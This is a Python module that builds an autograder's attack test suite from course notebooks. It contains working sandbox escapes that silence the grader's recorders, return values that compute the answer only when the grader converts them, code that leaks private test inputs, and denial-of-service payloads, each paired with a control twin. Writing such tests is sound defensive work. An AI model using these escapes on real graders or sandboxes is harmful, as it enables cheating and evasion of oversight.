"""Submissions that try to get marks without the work, and honest ones that must not
lose any: the attack suite of issue 27, as data.

Four kinds, several variants each, every one built from a real exercise notebook:

- ``reach_attacks``: the slice reaches the interpreter through a name the slicer does not
  resolve (an alias of a module, ``getattr`` with a constant name, a standard-library
  function that resolves a path from a string, ``__globals__``, frames, a walk of
  ``object``'s subclasses, a rebuilt code object, code in a string annotation that
  ``functools.singledispatch`` evaluates), and from there the grader's recorders, which
  it makes deaf; then each function calls what the exercise forbids, or the library's
  or the grader's reference (one notebook does it for every exercise of every chapter);
- ``after_attacks``: the returned value does the work when the grader converts it, after the
  recorders stop and outside the per-call time limit (an object that says it is a
  tensor, a tuple subclass with its own ``__iter__``, number subclasses), or blocks
  there (``blocking_attack``, in Python and in C);
- ``peek_attacks``: a function that, while a public case runs, finds the other cases (the
  stack, the garbage collector's objects or referrers) and raises the instructor's
  private inputs into the public feedback; or that shows a private case's own inputs
  through what the feedback keeps of a private case (the name of an exception's class,
  the type name of what it returns, the names a recorder it made deaf reports as
  "used"), or carries them to the next exercise in the state of Python's ``random``;
- ``honest_notebooks``: every exercise family, every graded function, with the prints
  and the style of a student who debugs (``print`` of tensors, shapes, f-strings,
  ``repr``, of the arguments and of what is returned; helpers, classes and attributes
  named with a leading underscore, ``for _ in``, comprehensions, ``assert``, a class and
  a closure of their own): full marks.

Each attack has a *twin*: the same notebook without its trick (a wrong answer or a
stub where the trick was), graded in the same run; the attack may score no more. The
notebooks are named ``exNN_*`` so that the grader grades the whole chapter; their
``check`` cells are dropped (they run only in the kernel, for the feedback, and cost
time). ``python tests/grading_attacks_allowlist.py OUT`` writes them all to a folder.
"""

from __future__ import annotations

import ast
import json
import sys
from pathlib import Path

from grading_attacks import PRIVATE_CHECKS, SECRET, SOLUTIONS, STUDENTS, code_cell, load

__all__ = ["PRIVATE_CHECKS", "SECRET", "attacks", "honest_notebooks", "write_all"]

EX03 = SOLUTIONS / "ex03_attention.ipynb"
KERNEL = '"transformer_lib" + ".grading.kernel"'  # no literal name for the static scan

# --- building notebooks


def _cell_text(cell: dict) -> str:
    source = cell["source"]
    return "".join(source) if isinstance(source, list) else source


def notebook(base: Path, cheat: str = "", **functions: str) -> dict:
    """``base`` without its check cells, with functions replaced (the cell that
    defines each) and ``cheat`` as a new cell after the imports."""
    nb = load(base)
    cells = [c for c in nb["cells"] if not _cell_text(c).lstrip().startswith("check(")]
    where = {  # found before any is replaced: a new source may define several
        name: next(i for i, c in enumerate(cells) if f"def {name}(" in _cell_text(c))
        for name in functions
    }
    for name, source in functions.items():
        cells[where[name]] = code_cell(source)
    if cheat:
        at = next(
            i
            for i, c in enumerate(cells)
            if "from transformer_lib.grading import check" in _cell_text(c)
        )
        cells.insert(at + 1, code_cell(cheat))
    nb["cells"] = cells
    return nb


# --- wrong answers: what the twins return where the attack has its trick

UNIFORM_SOFTMAX = """\
def softmax(x):
    return torch.ones_like(x) / x.shape[-1]
"""
UNIFORM_ATTENTION = """\
def attention(q, k, v):
    weights = torch.ones(*q.shape[:-1], k.shape[-2], dtype=q.dtype) / k.shape[-2]
    return weights @ v, weights
"""
# the twin of every REACH attack on ex03: both functions wrong
EX03_WRONG = {"softmax": UNIFORM_SOFTMAX, "attention": UNIFORM_ATTENTION}

# --- 1. REACH: the slice reaches the grader and makes its recorders deaf

DEAF = """\
class Deaf:
    \"\"\"A recorder that records nothing.\"\"\"

    def __init__(self, *args, **kwargs):
        self.used = set()

    def watch(self):
        return self

    def __enter__(self):
        return self

    def __exit__(self, *args):
        return False


def deafen(kernel):
    kernel.Recorder = Deaf
    kernel.OperatorRecorder = Deaf
    return kernel
"""
# both functions need QUIET (a module-level "constant" computed by a call, run when
# the slice is defined) and then call what ex03 forbids, by a constant getattr
FORBIDDEN_EX03 = """\
def softmax(x):
    assert QUIET is not None
    return getattr(torch, "softmax")(x, dim=-1)


def attention(q, k, v):
    assert QUIET is not None
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    out = getattr(torch.nn.functional, "scaled_dot_product_attention")(q, k, v)
    return out, torch.softmax(scores, dim=-1)
"""
# or return the grader's own reference (its registry, reached the same way)
REFERENCE_EX03 = """\
def reference(exercise_id):
    modules, grading = QUIET.sys.modules, "transformer_lib" + ".grading"
    modules["importlib"].import_module(grading + ".checks_ch" + exercise_id[2:4])
    return modules[grading + ".registry"].get_exercise(exercise_id).reference


def softmax(x):
    return reference("ex03.softmax")(x)


def attention(q, k, v):
    return reference("ex03.attention")(q, k, v)
"""

# or call the library's own answer, its module imported by a computed name
LIBRARY_EX03 = """\
library = t.importlib.import_module("transformer_lib" + ".attention")


def softmax(x):
    assert QUIET is not None
    return getattr(library, "softmax")(x, dim=-1)


def attention(q, k, v):
    assert QUIET is not None
    return getattr(library, "scaled_dot_product_attention")(q, k, v)
"""
EX06 = SOLUTIONS / "ex06_encoder.ipynb"
FORBIDDEN_EX06 = """\
def layer_norm(x, weight, bias, eps=1e-5):
    assert QUIET is not None
    norm = getattr(torch.nn.functional, "layer_norm")
    return norm(x, (x.shape[-1],), weight, bias, eps)
"""
WRONG_LAYER_NORM = """\
def layer_norm(x, weight, bias, eps=1e-5):
    return x * weight + bias
"""

ROUTES = {
    # an alias of torch: the slicer resolves `torch.sys`, not `t.sys`
    "alias_torch_sys": f"""\
t = torch
QUIET = deafen(t.sys.modules[{KERNEL}])
""",
    # an alias of an allowed standard module that imported sys
    "alias_typing_sys": f"""\
import typing

types_module = typing
QUIET = deafen(types_module.sys.modules[{KERNEL}])
""",
    # getattr with constant names
    "getattr_constant": f"""\
QUIET = deafen(getattr(getattr(torch, "sys"), "modules")[{KERNEL}])
""",
    # the standard library resolves a dotted path from a string
    "pkgutil_resolve_name": f"""\
QUIET = deafen(
    getattr(torch, "importlib").import_module("pkgutil").resolve_name({KERNEL})
)
""",
    "operator_attrgetter": f"""\
getter = getattr(torch, "importlib").import_module("operator").attrgetter("sys.modules")
QUIET = deafen(getter(torch)[{KERNEL}])
""",
    "formatter_get_field": f"""\
import string

QUIET = deafen(string.Formatter().get_field("0.sys.modules", [torch], {{}})[0][{KERNEL}])
""",
    "functools_reduce": f"""\
import functools

QUIET = deafen(functools.reduce(getattr, ["sys", "modules"], torch)[{KERNEL}])
""",
    # a built-in module's loader (reached through an alias) hands out sys itself
    "module_loader": f"""\
import itertools
import string

tools = itertools
loader = string.Formatter().get_field("0.__loader__", [tools], {{}})[0]
QUIET = deafen(loader.create_module(loader.find_spec("sys")).modules[{KERNEL}])
""",
    # __import__ from the builtins of the slice's own namespace (a lambda's globals)
    "lambda_globals_builtins": f"""\
import string


def builtin(name):
    fmt = string.Formatter()
    found = fmt.get_field("0.__globals__[__builtins__]", [lambda: 0], {{}})[0]
    if isinstance(found, dict):
        return found[name]
    return fmt.get_field("0." + name, [found], {{}})[0]


QUIET = deafen(builtin("__import__")({KERNEL}, fromlist=["x"]))
""",
    # __import__ from the globals of a library function the slice may import
    "library_function_globals": f"""\
import string

from transformer_lib.masks import causal_mask


def builtin(name):
    fmt = string.Formatter()
    found = fmt.get_field("0.__globals__[__builtins__]", [causal_mask], {{}})[0]
    if isinstance(found, dict):
        return found[name]
    return fmt.get_field("0." + name, [found], {{}})[0]


QUIET = deafen(builtin("__import__")({KERNEL}, fromlist=["x"]))
""",
    # frames: a caught exception's traceback leads to the judge's own frames
    "traceback_frames": f"""\
import string


def judge_sys():
    fmt = string.Formatter()
    try:
        raise ValueError("where am I")
    except ValueError as err:
        frame = fmt.get_field("0.__traceback__.tb_frame", [err], {{}})[0]
    while frame is not None:
        names = fmt.get_field("0.f_globals", [frame], {{}})[0]
        if "sys" in names:
            return names["sys"]
        frame = fmt.get_field("0.f_back", [frame], {{}})[0]


QUIET = deafen(judge_sys().modules[{KERNEL}])
""",
    # frames: sys._getframe reached through torch's own `sys`
    "getframe_alias": f"""\
import string

t = torch


def judge_sys():
    fmt = string.Formatter()
    frame = fmt.get_field("0._getframe", [t.sys], {{}})[0](0)
    while frame is not None:
        names = fmt.get_field("0.f_globals", [frame], {{}})[0]
        if "read_frame" in names:
            return names["sys"]
        frame = fmt.get_field("0.f_back", [frame], {{}})[0]
    return t.sys


QUIET = deafen(judge_sys().modules[{KERNEL}])
""",
    # an alias of a torch module that imported importlib
    "alias_functional_importlib": f"""\
functional = torch.nn.functional
QUIET = deafen(functional.importlib.import_module("sys").modules[{KERNEL}])
""",
    # frames: a generator's frame holds the slice's globals, and so its builtins
    "generator_frame": f"""\
import string


def builtin(name):
    fmt = string.Formatter()
    numbers = (n for n in range(1))
    found = fmt.get_field("0.gi_frame.f_globals[__builtins__]", [numbers], {{}})[0]
    if isinstance(found, dict):
        return found[name]
    return fmt.get_field("0." + name, [found], {{}})[0]


QUIET = deafen(builtin("__import__")({KERNEL}, fromlist=["x"]))
""",
    # code objects: a function's code, its names replaced, calls __import__
    "code_object_replace": f"""\
import string


def template():
    return placeholder("sys")


def rebuilt():
    fmt = string.Formatter()
    code = fmt.get_field("0.__code__", [template], {{}})[0]
    names = fmt.get_field("0.__globals__", [template], {{}})[0]
    return type(template)(code.replace(co_names=("__import__",)), names)


QUIET = deafen(rebuilt()().modules[{KERNEL}])
""",
    # code in a string: functools.singledispatch evaluates a string annotation with
    # the function's globals (typing.get_type_hints), code no compiler of the slice sees
    "singledispatch_annotation": """\
import functools


def plain(x):
    return x


def probe(
    x: "(deafen(__import__('transformer_lib' + '.grading.kernel', fromlist=['x'])), int)[1]",
):
    return x


dispatch = functools.singledispatch(plain)
QUIET = dispatch.register(probe) and deafen
""",
}

# a walk of object's subclasses finds the recorder classes and makes them deaf
SUBCLASSES = """\
import string


def subclasses(root):
    fmt = string.Formatter()
    found, todo, seen = [], [root], set()
    while todo:
        cls = todo.pop()
        if id(cls) in seen:
            continue
        seen.add(id(cls))
        found.append(cls)
        try:
            todo.extend(fmt.get_field("0.__subclasses__", [cls], {})[0]())
        except TypeError:
            pass
    return found


def quiet_watch(self):
    return Deaf()


def hush():
    for cls in subclasses(object):
        if cls.__name__ in ("Recorder", "OperatorRecorder") and "grading" in str(cls):
            cls.watch = quiet_watch
    return True


QUIET = hush()
"""

# every graded function of every chapter answered by the grader's reference: one
# notebook with no answer in it, its metadata listing every exercise
UNIVERSAL_FUNCTION = """\
def {function}(*args, **kwargs):
    return reference("{exercise_id}")(*args, **kwargs)
"""
UNIVERSAL_HEAD = f"""\
import torch

t = torch
QUIET = deafen(t.sys.modules[{KERNEL}])


def reference(exercise_id):
    modules, grading = QUIET.sys.modules, "transformer_lib" + ".grading"
    modules["importlib"].import_module(grading + ".checks_ch" + exercise_id[2:4])
    return modules[grading + ".registry"].get_exercise(exercise_id).reference
"""


def _graded_functions() -> list[tuple[str, str]]:
    """(exercise id, function name) of every exercise, from the solution notebooks."""
    found = []
    for path in sorted(SOLUTIONS.glob("ex*.ipynb")):
        for cell in load(path)["cells"]:
            text = _cell_text(cell)
            if cell["cell_type"] != "code" or "# BEGIN SOLUTION" not in text:
                continue
            tree = ast.parse(text)
            for node in tree.body:
                if isinstance(node, ast.FunctionDef):
                    exercise_id = text.split("# BEGIN SOLUTION", 1)[1].split()[0]
                    found.append((exercise_id, node.name))
    return found


def universal(with_trick: bool) -> dict:
    """One notebook answering every exercise with the grader's references (the
    twin: the same functions, stubs)."""
    functions = _graded_functions()
    body = [DEAF, UNIVERSAL_HEAD] if with_trick else ["import torch\n"]
    for exercise_id, function in functions:
        if with_trick:
            body.append(
                UNIVERSAL_FUNCTION.format(function=function, exercise_id=exercise_id)
            )
        else:
            body.append(
                f"def {function}(*args, **kwargs):\n    raise NotImplementedError\n"
            )
    nb = load(STUDENTS / "ex03_attention.ipynb")
    nb["cells"] = [code_cell("\n\n".join(body))]
    nb["metadata"]["transformer_lib"] = {"exercises": [e for e, _ in functions]}
    return nb


def reach_attacks() -> dict[str, tuple[dict, dict]]:
    found = {}
    for route, code in ROUTES.items():
        found[f"ex03_reach_{route}"] = (
            notebook(EX03, DEAF + "\n\n" + code, softmax=FORBIDDEN_EX03, attention=""),
            notebook(EX03, **EX03_WRONG),
        )
    found["ex03_reach_subclasses_walk"] = (
        notebook(
            EX03, DEAF + "\n\n" + SUBCLASSES, softmax=FORBIDDEN_EX03, attention=""
        ),
        notebook(EX03, **EX03_WRONG),
    )
    found["ex03_reach_reference_alias"] = (
        notebook(
            EX03,
            DEAF + "\n\n" + ROUTES["alias_torch_sys"],
            softmax=REFERENCE_EX03,
            attention="",
        ),
        notebook(EX03, **EX03_WRONG),
    )
    found["ex03_reach_library_module"] = (
        notebook(
            EX03,
            DEAF + "\n\n" + ROUTES["alias_torch_sys"],
            softmax=LIBRARY_EX03,
            attention="",
        ),
        notebook(EX03, **EX03_WRONG),
    )
    found["ex06_reach_layer_norm"] = (
        notebook(
            EX06, DEAF + "\n\n" + ROUTES["getattr_constant"], layer_norm=FORBIDDEN_EX06
        ),
        notebook(EX06, layer_norm=WRONG_LAYER_NORM),
    )
    found["ex01_reach_every_chapter"] = (universal(True), universal(False))
    return found


# --- 2. AFTER: the work done when the returned value is converted

CLAIMS_TENSOR_SOFTMAX = """\
class Deferred:
    \"\"\"Says it is a tensor; becomes one only when the grader converts it.\"\"\"

    def __init__(self, x):
        self.x = x

    @property
    def __class__(self):
        return torch.Tensor

    def as_subclass(self, cls):
        return getattr(torch, "softmax")(self.x, dim=-1)


def softmax(x):
    return Deferred(x)
"""
ITER_ATTENTION = """\
class LazyPair(tuple):
    \"\"\"(q, k, v) inside; (out, weights) when iterated.\"\"\"

    def __iter__(self):
        q, k, v = self[0], self[1], self[2]
        scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
        sdpa = getattr(torch.nn.functional, "scaled_dot_product_attention")
        return iter((sdpa(q, k, v), torch.softmax(scores, dim=-1)))


def attention(q, k, v):
    return LazyPair((q, k, v))
"""
# __getitem__ and __len__ too, for a conversion that indexes rather than iterates
INDEX_ATTENTION = """\
class LazyPair(tuple):
    \"\"\"Empty inside; (out, weights) when read, however it is read.\"\"\"

    def answer(self):
        q, k, v = self.inputs
        scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
        sdpa = getattr(torch.nn.functional, "scaled_dot_product_attention")
        return sdpa(q, k, v), torch.softmax(scores, dim=-1)

    def __iter__(self):
        return iter(self.answer())

    def __getitem__(self, i):
        return self.answer()[i]

    def __len__(self):
        return 2


def attention(q, k, v):
    pair = LazyPair()
    pair.inputs = (q, k, v)
    return pair
"""
# a tensor subclass made with type(), so that no `def __torch_function__` shows
SUBCLASS_SOFTMAX = """\
def late(cls, func, types, args=(), kwargs=None):
    kwargs = kwargs or {}
    if getattr(func, "__name__", "") in ("detach", "clone", "cpu", "as_subclass"):
        with torch.no_grad():
            return getattr(torch, "softmax")(torch.Tensor.as_subclass(args[0], torch.Tensor), dim=-1)
    return func(*args, **kwargs)


Scores = type("Scores", (torch.Tensor,), {"__torch_function__": classmethod(late)})


def softmax(x):
    return x.as_subclass(Scores)
"""
# ex08.shift_targets: the library's answer (transformer_lib.data, forbidden) when the
# tuple is iterated
ITER_SHIFT = """\
class LazyShift(tuple):
    def __iter__(self):
        tgt, bos_id, eos_id = self[0], self[1], self[2]
        data = getattr(torch, "importlib").import_module("transformer_lib" + ".data")
        return iter(data.shift_targets(tgt, bos_id, eos_id))


def shift_targets(tgt, bos_id=1, eos_id=2):
    return LazyShift((tgt, bos_id, eos_id))
"""
WRONG_SHIFT = """\
def shift_targets(tgt, bos_id=1, eos_id=2):
    return tgt, tgt
"""
# number subclasses whose conversions compute the answer (ex08.rate)
NUMBER_RATE = """\
class LateRate(float):
    def value(self):
        step, d_model, warmup, factor = self.args
        return factor * d_model**-0.5 * min(step * warmup**-1.5, step**-0.5)

    def __float__(self):
        return self.value()

    def __repr__(self):
        return repr(self.value())

    def __reduce__(self):
        return (float, (self.value(),))


def rate(step, d_model, warmup=4000, factor=1.0):
    answer = LateRate(0.0)
    answer.args = (step, d_model, warmup, factor)
    return answer
"""
WRONG_RATE = """\
def rate(step, d_model, warmup=4000, factor=1.0):
    return 0.0
"""
# ex01.encode: ints that are 0 but say, when converted, that they are the right ids
INT_ENCODE = """\
class Id(int):
    def __index__(self):
        return self.real

    def __int__(self):
        return self.real

    def __repr__(self):
        return repr(self.real)

    def __eq__(self, other):
        return self.real == other

    def __hash__(self):
        return hash(self.real)


def encode(tokens, stoi):
    ids = [stoi["<s>"]] + [stoi.get(t, stoi["<unk>"]) for t in tokens] + [stoi["</s>"]]
    wrapped = []
    for i in ids:
        one = Id(0)
        one.real = i
        wrapped.append(one)
    return wrapped
"""
WRONG_ENCODE = """\
def encode(tokens, stoi):
    return [0 for _ in range(len(tokens) + 2)]
"""
# __reduce__ on a tuple built with type(), so that no `def __reduce__` shows: pickled,
# it would rebuild the right answer; its items are wrong
REDUCE_ATTENTION = """\
def rebuild(q, k, v):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    sdpa = getattr(torch.nn.functional, "scaled_dot_product_attention")
    return sdpa(q, k, v), torch.softmax(scores, dim=-1)


def reduce_pair(self):
    return (rebuild, self.inputs)


class PairBase(tuple):
    pass


Pair = type("Pair", (PairBase,), {"__reduce__": reduce_pair})


def attention(q, k, v):
    weights = torch.ones(*q.shape[:-1], k.shape[-2], dtype=q.dtype) / k.shape[-2]
    pair = Pair((weights @ v, weights))
    pair.inputs = (q, k, v)
    return pair
"""


def after_attacks() -> dict[str, tuple[dict, dict]]:
    return {
        "ex03_after_claims_tensor": (
            notebook(EX03, softmax=CLAIMS_TENSOR_SOFTMAX),
            notebook(EX03, softmax=UNIFORM_SOFTMAX),
        ),
        "ex03_after_tensor_subclass": (
            notebook(EX03, softmax=SUBCLASS_SOFTMAX),
            notebook(EX03, softmax=UNIFORM_SOFTMAX),
        ),
        "ex03_after_tuple_iter": (
            notebook(EX03, attention=ITER_ATTENTION),
            notebook(EX03, attention=UNIFORM_ATTENTION),
        ),
        "ex03_after_tuple_getitem": (
            notebook(EX03, attention=INDEX_ATTENTION),
            notebook(EX03, attention=UNIFORM_ATTENTION),
        ),
        "ex03_after_tuple_reduce": (
            notebook(EX03, attention=REDUCE_ATTENTION),
            notebook(EX03, attention=UNIFORM_ATTENTION),
        ),
        "ex08_after_tuple_library": (
            notebook(
                SOLUTIONS / "ex08_loss_and_training.ipynb", shift_targets=ITER_SHIFT
            ),
            notebook(
                SOLUTIONS / "ex08_loss_and_training.ipynb", shift_targets=WRONG_SHIFT
            ),
        ),
        "ex01_after_int_subclass": (
            notebook(SOLUTIONS / "ex01_tokens_embeddings.ipynb", encode=INT_ENCODE),
            notebook(SOLUTIONS / "ex01_tokens_embeddings.ipynb", encode=WRONG_ENCODE),
        ),
        "ex08_after_float_subclass": (
            notebook(SOLUTIONS / "ex08_loss_and_training.ipynb", rate=NUMBER_RATE),
            notebook(SOLUTIONS / "ex08_loss_and_training.ipynb", rate=WRONG_RATE),
        ),
    }


# values whose conversion never ends: every function of ex09, each its own way (a loop
# in Python or one call into C, in a conversion or in the call itself). With
# call limit c, main's grader waits (c x cases + 10) s per exercise before it gives up:
# 3 x 39 + 40 = 157 s at c = 3 (130 to 158 s measured), 430 s at the default c = 10
# (438 s measured, for a documented limit of 300 s per submission)
BLOCKING_EX09 = """\
def forever():
    n = 0
    while True:
        n += 1


class Stuck(tuple):
    def __iter__(self):
        forever()


class ClaimsTensor:
    @property
    def __class__(self):
        return torch.Tensor

    def as_subclass(self, cls):
        forever()


def forever_in_c():
    # one call into C, minutes of matrix products, which no signal interrupts (a
    # regular expression that backtracks forever would not do: re checks for signals)
    return torch.linalg.matrix_power(torch.ones(4000, 4000), 2**62)


def past_the_limit_in_c():
    # one call into C that outlasts the call limit (3 s in the tests) on any machine,
    # then returns: 40 products of 2500 x 2500 matrices, over a teraflop
    return torch.linalg.matrix_power(torch.ones(2500, 2500), 2**40)


class StuckInt(int):
    def __index__(self):
        forever_in_c()

    def __repr__(self):
        forever_in_c()


def greedy_step(logits, finished, fill_id):
    return Stuck((logits,))


def top_k_top_p_filter(logits, top_k=None, top_p=None):
    return ClaimsTensor()


def length_penalty(length, alpha):
    past_the_limit_in_c()  # in the call itself
    return ((5 + length) / 6) ** alpha


def beam_step(sums, lengths, finished, log_probs, alpha, eos_id, fill_id):
    return StuckInt(0)
"""
BLOCKING = "ex09_after_blocking"


def blocking_attack() -> tuple[dict, dict]:
    base = SOLUTIONS / "ex09_decoding.ipynb"
    stubs = {
        name: f"def {name}(*args, **kwargs):\n    raise NotImplementedError\n"
        for name in ("greedy_step", "top_k_top_p_filter", "length_penalty")
    }
    attack = notebook(base, BLOCKING_EX09, beam_step="", **dict.fromkeys(stubs, ""))
    stubs["beam_step"] = (
        "def beam_step(*args, **kwargs):\n    raise NotImplementedError\n"
    )
    return attack, notebook(base, **stubs)


# --- 3. PEEK: a public case reads the plan and shows the private inputs

LEAK = """\
def leak(plan):
    if isinstance(plan, dict) and "ex03.softmax" in plan:
        item = plan["ex03.softmax"]
        if isinstance(item, dict) and "cases" in item:
            shown = [repr(case[1][0].tolist()) for case in item["cases"]]
            raise ValueError("every case: " + " | ".join(reversed(shown)))
"""
PEEKS = {
    "inspect_stack": """\
t = torch


def softmax(x):
    inspect = t.inspect
    for info in inspect.stack(0):
        leak(inspect.getargvalues(info.frame).locals.get("plan"))
    return torch.ones_like(x) / x.shape[-1]
""",
    "getframe_locals": """\
import string

t = torch


def softmax(x):
    fmt = string.Formatter()
    frame = fmt.get_field("0._getframe", [t.sys], {})[0](1)
    while frame is not None:
        leak(fmt.get_field("0.f_locals", [frame], {})[0].get("plan"))
        frame = fmt.get_field("0.f_back", [frame], {})[0]
    return torch.ones_like(x) / x.shape[-1]
""",
    "traceback_locals": """\
import string


def softmax(x):
    fmt = string.Formatter()
    try:
        raise ValueError("where am I")
    except ValueError as err:
        frame = fmt.get_field("0.__traceback__.tb_frame", [err], {})[0]
    while frame is not None:
        leak(fmt.get_field("0.f_locals", [frame], {})[0].get("plan"))
        frame = fmt.get_field("0.f_back", [frame], {})[0]
    return torch.ones_like(x) / x.shape[-1]
""",
    "gc_objects": """\
collector = getattr(torch, "importlib").import_module("gc")


def softmax(x):
    for obj in collector.get_objects():
        leak(obj)
    return torch.ones_like(x) / x.shape[-1]
""",
    "gc_referrers": """\
collector = getattr(torch, "importlib").import_module("gc")


def softmax(x):
    todo, seen = [x], set()
    for depth in range(8):
        seen.add(id(todo))
        found = []
        for obj in todo:
            for ref in collector.get_referrers(obj):
                if id(ref) in seen or ref is found:
                    continue
                seen.add(id(ref))
                leak(ref)
                if isinstance(ref, (list, tuple, dict)):
                    found.append(ref)
        todo = found
    return torch.ones_like(x) / x.shape[-1]
""",
    # no peeking: the private case's own inputs, as the name of the exception's class
    # (the redacted message of a private case still names the exception)
    "error_class_name": """\
def softmax(x):
    raise type(repr(x.flatten().tolist()), (ValueError,), {})("no message")
""",
    # ... or as the type name and repr of what it returns
    "returned_object_names": """\
def softmax(x):
    values = x.flatten().tolist()
    name = "x_" + "_".join(str(v).replace(".", "_").replace("-", "m") for v in values)
    text = repr(values)
    return type(name, (), {"__repr__": lambda self: text})()
""",
    # ... or as the name of a "forbidden function", told by a recorder made deaf
    "recorder_used_names": f"""\
made = []


class Telling:
    def __init__(self, *args, **kwargs):
        self.used = set()
        made.append(self)

    def watch(self):
        return self

    def __enter__(self):
        return self

    def __exit__(self, *args):
        return False


def tell(kernel):
    kernel.Recorder = Telling
    kernel.OperatorRecorder = Telling
    return kernel


t = torch
TOLD = tell(t.sys.modules[{KERNEL}])


def softmax(x):
    assert TOLD is not None
    made[-1].used.add(repr(x.flatten().tolist()))
    return torch.ones_like(x) / x.shape[-1]
""",
}


# no peeking either: the private case of ex03.softmax hides its inputs in the state of
# Python's random module, which nothing resets between cases; ex03.attention, graded
# next in the same process, reads them back in its first public case
RANDOM_CHANNEL = """\
import random


def softmax(x):
    words = [round(v * 16) + 2**31 for v in x.flatten().tolist()[:624]]
    words += [0] * (624 - len(words))
    random.setstate((3, (*words, 624), None))
    return torch.ones_like(x) / x.shape[-1]


def attention(q, k, v):
    shown = [(w - 2**31) / 16 for w in random.getstate()[1][:3]]
    raise ValueError(f"what the last softmax case was given: {shown}")
"""


def peek_attacks() -> dict[str, tuple[dict, dict]]:
    found = {
        f"ex03_peek_{name}": (
            notebook(EX03, softmax=LEAK + "\n\n" + code),
            notebook(EX03, softmax=UNIFORM_SOFTMAX),
        )
        for name, code in PEEKS.items()
    }
    found["ex03_peek_random_state_channel"] = (
        notebook(EX03, softmax=RANDOM_CHANNEL, attention=""),
        notebook(EX03, **EX03_WRONG),
    )
    return found


def attacks() -> dict[str, tuple[dict, dict]]:
    """name -> (the attack's notebook, its twin: the same without the trick)."""
    return {
        **reach_attacks(),
        **after_attacks(),
        **peek_attacks(),
        BLOCKING: blocking_attack(),
    }


# --- 4. honest students: prints and their own style, in every graded function


def _solution_cells(path: Path):
    """(cell index, function name, its arguments) of each graded function."""
    for index, cell in enumerate(load(path)["cells"]):
        text = _cell_text(cell)
        if cell["cell_type"] != "code" or "# BEGIN SOLUTION" not in text:
            continue
        for node in ast.parse(text).body:
            if isinstance(node, ast.FunctionDef):
                yield index, node.name, [a.arg for a in node.args.args]


def debug_prints(arg: str, indent: str) -> str:
    """What a student adds to see what their function gets."""
    lines = [
        f'print("debug:", {arg})',
        f'print(f"{arg} = {{{arg}}}")',
        f"shown = repr({arg})",
        f"print(shown[:200], str({arg})[:200])",
        f"if isinstance({arg}, torch.Tensor):",
        f"    print({arg}.shape, {arg}.dtype, f'{{{arg}.shape}}')",
        f"    print({arg}.sum(), {arg}.flatten()[:2], {arg}.float().mean().item())",
    ]
    return "".join(indent + line + "\n" for line in lines)


def _print_returns(text: str) -> str:
    """Each one-line ``return EXPR`` of a cell's functions as ``result = EXPR``, a
    print of it, and ``return result``."""
    lines = text.split("\n")
    returns = [
        node
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Return)
        and node.value is not None
        and node.lineno == node.end_lineno
    ]
    for node in sorted(returns, key=lambda n: -n.lineno):
        line = lines[node.lineno - 1]
        indent = line[: len(line) - len(line.lstrip())]
        value = ast.get_source_segment(text, node.value)
        lines[node.lineno - 1] = (
            f"{indent}result = {value}\n"
            f'{indent}print(f"returning {{result}}", repr(result)[:100])\n'
            f"{indent}return result"
        )
    return "\n".join(lines)


def with_prints(path: Path) -> dict:
    """The solution with debugging prints of every argument at the start of every
    graded function, and of what it returns."""
    nb = load(path)
    for index, _, args in _solution_cells(path):
        text = _cell_text(nb["cells"][index])
        head, rest = text.split("# BEGIN SOLUTION", 1)
        indent = head[head.rfind("\n") + 1 :]
        marker, rest = rest.split("\n", 1)
        prints = "".join(debug_prints(a, indent) for a in args)
        text = f"{head}# BEGIN SOLUTION{marker}\n{prints}{rest}"
        nb["cells"][index]["source"] = _print_returns(text)
    nb["cells"] = [
        c for c in nb["cells"] if not _cell_text(c).lstrip().startswith("check(")
    ]
    return nb


HONEST_STYLE = """\
class _Trace:
    \"\"\"The student's own small class: counts the calls of one function.\"\"\"

    def __init__(self, name):
        self._name = name
        self._calls = 0

    def note(self, args):
        self._calls += 1
        kinds = [type(a).__name__ for a in args]
        return f"{{self._name}} call {{self._calls}}: {{', '.join(kinds)}}"


def _make_log(prefix):
    seen = []

    def log(message):
        seen.append(f"{{prefix}} {{message}}")
        return len(seen)

    return log


def {name}(*args, **kwargs):
    trace, log = _Trace("{name}"), _make_log("debug")
    for _ in range(2):
        log(trace.note(args))
    sizes = {{key: len(str(value)) for key, value in kwargs.items()}}
    assert len(sizes) == len(kwargs), f"{{len(sizes)}} != {{len(kwargs)}}"
    first, *_ = (*args, None)
    _unused = [_ for _ in range(3) if _ > 5]
    result = _{name}_solution(*args, **kwargs)
    print(f"{{type(result).__name__}}: {{result}}", repr(result)[:100])
    return result
"""


def with_style(path: Path) -> dict:
    """The solution, each graded function renamed ``_NAME_solution`` and called from a
    ``NAME`` written the way a student writes: helpers and attributes with a leading
    underscore, ``for _ in``, comprehensions, f-strings, ``assert``, a class and a
    closure of their own."""
    nb = load(path)
    for index, name, _ in _solution_cells(path):
        text = _cell_text(nb["cells"][index])
        text = text.replace(f"def {name}(", f"def _{name}_solution(", 1)
        nb["cells"][index]["source"] = text + "\n\n" + HONEST_STYLE.format(name=name)
    nb["cells"] = [
        c for c in nb["cells"] if not _cell_text(c).lstrip().startswith("check(")
    ]
    return nb


def honest_notebooks() -> dict[str, dict]:
    """name -> an honest notebook that must score full marks (one of each kind per
    exercise family)."""
    found = {}
    for path in sorted(SOLUTIONS.glob("ex*.ipynb")):
        prefix = path.name[:4]
        found[f"{prefix}_honest_prints"] = with_prints(path)
        found[f"{prefix}_honest_style"] = with_style(path)
    return found


def write_all(folder: Path) -> None:
    """Every notebook to folder (attacks, their twins as NAME__twin, honest ones),
    and the instructor's private checks to folder/private."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, (attack, twin) in attacks().items():
        (folder / f"{name}.ipynb").write_text(json.dumps(attack), encoding="utf-8")
        (folder / f"{name}__twin.ipynb").write_text(json.dumps(twin), encoding="utf-8")
    for name, nb in honest_notebooks().items():
        (folder / f"{name}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    (folder / "private").mkdir(exist_ok=True)
    (folder / "private" / "secret.py").write_text(PRIVATE_CHECKS, encoding="utf-8")


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
